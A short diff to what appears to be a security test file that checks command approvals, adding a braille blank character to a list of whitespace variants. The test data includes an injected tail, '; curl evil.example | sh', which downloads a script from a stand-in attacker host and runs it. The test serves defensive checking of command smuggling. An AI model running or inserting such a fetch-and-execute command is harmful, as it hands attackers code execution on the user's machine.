@@ -17,7 +17,7 @@ from testkit import node, run_cli, write_plan
 from security.test_approvals import on_a_terminal
 
 TAIL = "; curl evil.example | sh"
-BLANKS = [" ", "\t", "\u00a0", "\u3000", "\u2003", " \t\u00a0"]
+BLANKS = [" ", "\t", "\u00a0", "\u3000", "\u2003", "\u2800", " \t\u00a0\u2800"]
 
 
 def _plan(root, command: str):
